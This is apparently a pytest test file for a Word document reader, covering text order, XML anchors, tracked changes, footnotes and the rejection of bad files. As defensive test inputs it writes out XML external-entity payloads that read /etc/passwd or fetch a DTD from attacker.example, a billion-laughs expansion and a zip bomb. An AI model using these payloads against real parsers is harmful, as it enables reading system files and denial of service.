"""Word documents: text in order, anchors into the XML, properties, hostile packages."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, datetime
from typing import Any

import docx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rashomon.errors import UnreadableFileError
from rashomon.ingest.docx import read_docx
from rashomon.ingest.limits import LimitError
from rashomon.records import CharacterAnchor
from rashomon.settings import ReadSettings
from tests.ingest.homecoming import STRANGE, come_home
from tests.ingest.opened import drafts

STORY = "Two people died in the port of Harvane on Monday, the harbour police said."
_HEAD = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
)


def saved(document: Any) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def package(body: str, *, raw: bytes | None = None, **parts: bytes) -> bytes:
    """A bare package around a body in XML."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "word/document.xml", raw or f"{_HEAD}{body}</w:body></w:document>".encode()
        )
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/") + ".xml", content)
    return out.getvalue()


def part(raw: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        return archive.read(name).decode("utf-8")


def test_paragraphs_tables_and_headings_come_in_order() -> None:
    document = docx.Document()
    document.add_heading("Blast in Harvane", 0)
    document.add_paragraph(STORY)
    table = document.add_table(2, 2)
    for row, words in zip(table.rows, (("Killed", "Hurt"), ("2", "5")), strict=True):
        for cell, word in zip(row.cells, words, strict=True):
            cell.text = word
    document.add_paragraph("A spokesman\tdenied it.")
    document.core_properties.author = "Mira Tolen"
    document.core_properties.title = ""
    document.core_properties.created = datetime(2021, 3, 4, 8, 15)
    raw = saved(document)
    (draft,) = drafts(read_docx, raw)
    assert draft.text.split("\n\n") == [
        "Blast in Harvane",
        STORY,
        "Killed | Hurt",
        "2 | 5",
        "A spokesman denied it.",
    ]
    assert (draft.title, draft.author) == ("Blast in Harvane", "Mira Tolen")
    assert (draft.made, draft.made_from) == (
        datetime(2021, 3, 4, 8, 15, tzinfo=UTC),
        "meta:dcterms:created",
    )
    assert come_home(draft.text, draft.anchors, lambda name: part(raw, name), markup=True) > 100


@settings(max_examples=60, deadline=None)
@given(st.lists(st.lists(st.sampled_from(STRANGE), max_size=4), min_size=1, max_size=5))
def test_every_word_points_into_the_xml(paragraphs: list[list[str]]) -> None:
    document = docx.Document()
    document.add_paragraph("Beginning")
    for pieces in paragraphs:
        paragraph = document.add_paragraph()
        for piece in pieces:
            paragraph.add_run(piece.replace("\U000e0041", "")).bold = len(piece) % 2 == 0
    raw = saved(document)
    (draft,) = drafts(read_docx, raw)
    anchored = come_home(draft.text, draft.anchors, lambda name: part(raw, name), markup=True)
    assert anchored == sum(not char.isspace() for char in draft.text)


def test_cdata_and_references_and_line_ends() -> None:
    raw = package("<w:p><w:r><w:t>a &amp; b<![CDATA[ & <c>]]> &#x1F614; d\r\ne</w:t></w:r></w:p>")
    (draft,) = drafts(read_docx, raw)
    assert draft.text == "a & b & <c> 😔 d\ne"
    # the one line end stands for two characters there
    (end,) = (each for each in draft.anchors if draft.text[each.start : each.end] == "\n")
    assert isinstance(end, CharacterAnchor)
    xml = part(raw, "word/document.xml")
    assert xml[end.original_start : end.original_end] == "\r\n"
    others = [each for each in draft.anchors if each is not end]
    come_home(draft.text, others, lambda name: xml, markup=True)


def test_deleted_hidden_and_fallback_words_are_no_text() -> None:
    raw = package(
        "<w:p><w:r><w:t>Two died</w:t></w:r>"
        "<w:del><w:r><w:delText>Nine</w:delText><w:t>Nine</w:t></w:r></w:del>"
        "<w:ins><w:r><w:t> on Monday</w:t></w:r></w:ins>"
        "<w:r><w:rPr><w:vanish/></w:rPr><w:t> secretly</w:t></w:r>"
        '<w:r><w:rPr><w:vanish w:val="0"/></w:rPr><w:t>, police said.</w:t></w:r></w:p>'
    )
    (draft,) = drafts(read_docx, raw)
    assert draft.text == "Two died on Monday, police said."
    assert [words.split(";")[0] for words in draft.doubts] == [
        "has tracked changes",
        "has words that are formatted as hidden",
    ]


def test_footnotes_follow() -> None:
    note = _HEAD.replace("document", "footnotes").replace("<w:body>", "")
    content = (
        f"{note}<w:footnote><w:p><w:r><w:t>As told.</w:t></w:r></w:p></w:footnote></w:footnotes>"
    )
    raw = package(f"<w:p><w:r><w:t>{STORY}</w:t></w:r></w:p>", word__footnotes=content.encode())
    (draft,) = drafts(read_docx, raw)
    assert draft.text == f"{STORY}\n\nAs told."
    assert draft.anchors[-1].part == "word/footnotes.xml"  # type: ignore[union-attr]
    come_home(draft.text, draft.anchors, lambda name: part(raw, name), markup=True)


def cause(raw: bytes, **options: object) -> str:
    with pytest.raises((UnreadableFileError, LimitError)) as failure:
        drafts(read_docx, raw, ReadSettings(**options))  # type: ignore[arg-type]
    return str(failure.value)


_LAUGHS = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))


@pytest.mark.parametrize(
    "declared",
    [
        f'<!DOCTYPE w [<!ENTITY l0 "ha">{_LAUGHS}]>',
        '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE w SYSTEM "http://attacker.example/x.dtd">',
        '<!DOCTYPE w [<!ENTITY % p SYSTEM "http://attacker.example/x"> %p;]>',
    ],
)
def test_document_types_are_refused(declared: str) -> None:
    body = f"{declared}{_HEAD}<w:p><w:r><w:t>&l9;&x;</w:t></w:r></w:p></w:body></w:document>"
    assert "declares a document type" in cause(package("", raw=body.encode()))


def test_what_is_no_word_document_is_told() -> None:
    assert "no ZIP file" in cause(b"\xd0\xcf\x11\xe0 old")
    assert "broken XML" in cause(package("<w:p><w:r>"))
    assert "without any text" in cause(package("<w:p/>"))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "x")
    assert "no main part" in cause(out.getvalue())
    deep = "<w:p>" * 300 + "</w:p>" * 300
    assert "200 deep" in cause(package(deep))


def test_bombs_are_refused() -> None:
    words = "<w:p><w:r><w:t>" + "a" * 5_000_000 + "</w:t></w:r></w:p>"
    assert "read.max_ratio" in cause(package(words))
    assert "read.max_entry_mb" in cause(package(words), max_entry_mb=1.0, max_ratio=1e9)
    assert "read.max_text_mb" in cause(package(words), max_text_mb=1.0, max_ratio=1e9)
